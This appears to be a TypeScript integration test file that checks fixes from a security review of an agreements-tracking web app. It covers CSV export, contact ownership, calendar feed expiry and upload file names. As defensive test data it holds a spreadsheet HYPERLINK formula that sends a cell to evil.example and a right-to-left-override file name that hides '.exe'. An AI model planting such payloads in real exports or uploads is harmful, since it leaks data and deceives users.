// The second security review's findings, each tried as the review tried it, against routes over a real database
// (the finding on ended agreements runs on the real stack: tests/e2e/overview.test.ts; single sign-on against a real
// OpenID provider: tests/e2e/sign-in-sso.test.ts; the configuration checks: tests/unit/config-secrets.test.ts).
import { Client, Connection } from '@temporalio/client';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { agreementRow } from '../../activities/projections/agreements.js';
import { buildApp } from '../../api/app.js';
import type { DomainEvent } from '../../domain/events.js';
import { fold } from '../../domain/evolve.js';
import { toView } from '../../domain/view.js';
import { findPerson } from '../../services/people.js';
import { createTestDatabase, type TestDatabase } from '../support/database.js';
import { adminSession, postForm, sessionOf } from '../support/people.js';
import { lapasGarut, pemkabGarut } from '../support/scenario.js';
import { ADMIN_TOKEN, quietLog } from '../support/stack.js';
import { started } from '../unit/fixtures.js';
import { record } from '../unit/given-when-then.js';

let t: TestDatabase;
let app: FastifyInstance;
const admin = { authorization: `Bearer ${ADMIN_TOKEN}` };
const cookie = (id: string) => ({ cookie: `sinergi_sesi=${id}` });
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Klik")';

async function seed(id: string, events: DomainEvent[], title?: string): Promise<void> {
  const view = { ...toView(fold(id, record(events))), id, ...(title ? { title } : {}) };
  await t.db.insertInto('agreements').values(agreementRow(view)).execute();
}

beforeAll(async () => {
  t = await createTestDatabase('second_review');
  const temporal = new Client({ connection: Connection.lazy({ address: '127.0.0.1:1' }) });
  app = await buildApp({ db: t.db, temporal, adminToken: ADMIN_TOKEN, log: quietLog, feedDays: 30 });
  const kanwil = {
    id: 'kanwil-jabar',
    name: 'Kanwil Jawa Barat',
    kind: 'kanwil',
    timeZone: 'Asia/Jakarta',
    contacts: [],
  };
  for (const p of [lapasGarut, pemkabGarut, kanwil]) {
    expect((await app.inject({ method: 'POST', url: '/v1/parties', headers: admin, payload: p })).statusCode).toBe(201);
  }
  await seed('garut', [started]);
  await seed('rumus', [started], FORMULA);
  await seed('garut-aktif', [started, { type: 'StageChanged', data: { from: 'exploration', to: 'active' } }]);
});

afterAll(async () => {
  await app?.close();
  await t?.drop();
});

const form = (session: string, url: string, fields: Record<string, string>) => postForm(app, session, url, fields);
const lines = (contacts: { name: string; position: string; email: string; role: string }[]) =>
  contacts
    .map(
      (c) =>
        `${c.name}; ${c.position}; ${c.email}; ${c.role === 'liaison' ? 'penghubung' : c.role === 'signatory' ? 'penanda tangan' : 'pimpinan'}`,
    )
    .join('\n');
const contactsOf = async (id: string) =>
  (
    (await app.inject({ method: 'GET', url: `/v1/parties/${id}`, headers: admin })).json() as {
      contacts: { email: string }[];
    }
  ).contacts.map((c) => c.email);

describe('1. the CSV export neutralises formulas', () => {
  it('writes a title that starts with = as text, never as a live formula', async () => {
    const res = await app.inject({ method: 'GET', url: '/v1/agreements/export.csv', headers: admin });
    expect(res.statusCode).toBe(200);
    const row = res.body.split('\n').find((l) => l.startsWith('rumus,'));
    expect(row).toBeDefined();
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""Klik"")"`);
    expect(row).not.toMatch(/,"?=HYPERLINK/);
  });
});

describe('2. an e-mail address belongs to one party', () => {
  it("refuses a liaison who adds another party's contact, naming the line, and stores nothing", async () => {
    const afan = await sessionOf(t.db, 'afan@lapasgarut.test');
    const before = await contactsOf('lapas-garut');
    const taken = [
      ...lapasGarut.contacts,
      { name: 'Widi', position: 'Kabag', email: 'Widi@GarutKab.test', role: 'liaison' },
    ];
    const res = await form(afan, '/direktori/lapas-garut/kontak', { contacts: lines(taken) });
    expect(res.statusCode).toBe(409);
    expect(res.body).toContain(
      `baris ${taken.length} (e-mail; tulis: Nama; Jabatan; e-mail; peran, dipisah titik koma)`,
    );
    expect(res.body).toContain('widi@garutkab.test sudah tercatat sebagai kontak Pemerintah Kabupaten Garut');
    expect(await contactsOf('lapas-garut')).toEqual(before);
    // Widi still signs in as Pemkab Garut's liaison.
    expect(await findPerson(t.db, 'widi@garutkab.test')).toMatchObject({ role: 'party', partyId: 'pemkab-garut' });
  });

  it('lets an admin move an address to another party, and records the move', async () => {
    const session = await adminSession(t.db);
    const moved = [
      ...lapasGarut.contacts,
      { name: 'Meisya', position: 'Staf', email: 'meisya@garutkab.test', role: 'liaison' },
    ];
    const res = await form(session, '/direktori/lapas-garut/kontak', { contacts: lines(moved) });
    expect(res.statusCode).toBe(303);
    expect(await contactsOf('lapas-garut')).toContain('meisya@garutkab.test');
    expect(await contactsOf('pemkab-garut')).not.toContain('meisya@garutkab.test');
    expect(await findPerson(t.db, 'meisya@garutkab.test')).toMatchObject({ partyId: 'lapas-garut' });
    const moves = await t.db.selectFrom('contact_moves').selectAll().execute();
    expect(moves).toEqual([
      expect.objectContaining({
        email: 'meisya@garutkab.test',
        from_party_id: 'pemkab-garut',
        to_party_id: 'lapas-garut',
      }),
    ]);
  });
});

describe('3. every calendar feed has an end', () => {
  it('ends with its lifetime, is listed with its maker and end, and can be revoked one by one', async () => {
    const made = await app.inject({ method: 'POST', url: '/v1/parties/pemkab-garut/calendar-feeds', headers: admin });
    expect(made.statusCode).toBe(201);
    const feed = made.json() as { id: string; url: string; expiresAt: string };
    const days = (Date.parse(feed.expiresAt) - Date.now()) / 86_400_000;
    expect(days).toBeGreaterThan(29.9);
    expect(days).toBeLessThanOrEqual(30);
    expect((await app.inject({ method: 'GET', url: feed.url })).statusCode).toBe(200);
    const listed = (
      await app.inject({ method: 'GET', url: '/v1/parties/pemkab-garut/calendar-feeds', headers: admin })
    ).json();
    expect(listed.items).toContainEqual(
      expect.objectContaining({ id: feed.id, createdBy: 'env-admin', creatorKind: 'token', expiresAt: feed.expiresAt }),
    );
    // Past its end (as if 30 days went by), the feed stops.
    await t.db
      .updateTable('calendar_feeds')
      .set({ expires_at: new Date(Date.now() - 1000) })
      .where('id', '=', feed.id)
      .execute();
    expect((await app.inject({ method: 'GET', url: feed.url })).statusCode).toBe(401);
    const other = (
      await app.inject({ method: 'POST', url: '/v1/parties/pemkab-garut/calendar-feeds', headers: admin })
    ).json();
    const revoked = await app.inject({
      method: 'POST',
      url: `/v1/parties/pemkab-garut/calendar-feeds/${other.id}/revoke`,
      headers: admin,
    });
    expect(revoked.json()).toEqual({ revoked: 1 });
    expect((await app.inject({ method: 'GET', url: other.url })).statusCode).toBe(401);
  });

  it("dies with its maker's place in the directory, and shows on the calendar page with its maker", async () => {
    const sekda = await sessionOf(t.db, 'sekda@garutkab.test');
    const made = await form(sekda, '/kalender/pemkab-garut', {});
    expect(made.statusCode).toBe(200);
    const url = new URL(/value="([^"]+calendar\.ics[^"]+)"/.exec(made.body)![1]!.replaceAll('&amp;', '&'));
    expect((await app.inject({ method: 'GET', url: url.pathname + url.search })).statusCode).toBe(200);
    const page = (await app.inject({ method: 'GET', url: '/kalender', headers: cookie(sekda) })).body;
    expect(page).toContain('Dibuat oleh sekda@garutkab.test, berlaku sampai');
    // Sekda is removed from the directory: the feed stops answering, though nobody revoked it.
    const remaining = pemkabGarut.contacts.filter(
      (c) => c.email !== 'sekda@garutkab.test' && c.email !== 'meisya@garutkab.test',
    );
    expect(
      (
        await app.inject({
          method: 'PATCH',
          url: '/v1/parties/pemkab-garut',
          headers: admin,
          payload: { contacts: remaining },
        })
      ).statusCode,
    ).toBe(200);
    expect((await app.inject({ method: 'GET', url: url.pathname + url.search })).statusCode).toBe(401);
  });
});

describe('5. the public page of a party', () => {
  it('answers 404 for a party with nothing published, as for an unknown one', async () => {
    const known = await app.inject({ method: 'GET', url: '/publik/pihak/pemkab-garut' });
    const unknown = await app.inject({ method: 'GET', url: '/publik/pihak/tidak-ada' });
    expect([known.statusCode, unknown.statusCode]).toEqual([404, 404]);
    expect(known.body).not.toContain('Pemerintah Kabupaten Garut');
  });
});

describe('7. the OPD import checks its target', () => {
  it('refuses to import OPDs under a party that is not a Pemda, naming it', async () => {
    const session = await adminSession(t.db);
    const res = await app.inject({ method: 'GET', url: '/direktori/kanwil-jabar/impor', headers: cookie(session) });
    expect(res.statusCode).toBe(400);
    expect(res.body).toContain('Kanwil Jawa Barat bukan Pemda');
  });
});

describe('8. file names shown as stored, without direction or other format characters', () => {
  it('strips U+202E and other format characters from a display name, keeping the rest', async () => {
    const data = new FormData();
    data.set('kind', 'attachment');
    data.set('file', new Blob(['%PDF-1.4\n%%EOF\n']), '\u202Efdp.exe\u200B');
    const encoded = new Response(data);
    const res = await app.inject({
      method: 'POST',
      url: '/v1/agreements/garut/documents',
      payload: Buffer.from(await encoded.arrayBuffer()),
      headers: { ...admin, 'content-type': encoded.headers.get('content-type') ?? '' },
    });
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json().filename).toBe('fdp.exe');
  });
});

describe('10. no caller may choose a reserved id', () => {
  it('refuses an idem- id for a PKS as for an agreement', async () => {
    const res = await app.inject({
      method: 'POST',
      url: '/v1/agreements/garut-aktif/operational-agreements',
      headers: admin,
      payload: { id: 'idem-pilihan-sendiri', partyId: 'pemkab-garut', title: 'PKS', scope: [] },
    });
    expect([res.statusCode, res.json().error.code, res.json().error.field]).toEqual([400, 'reserved_id', 'id']);
  });
});
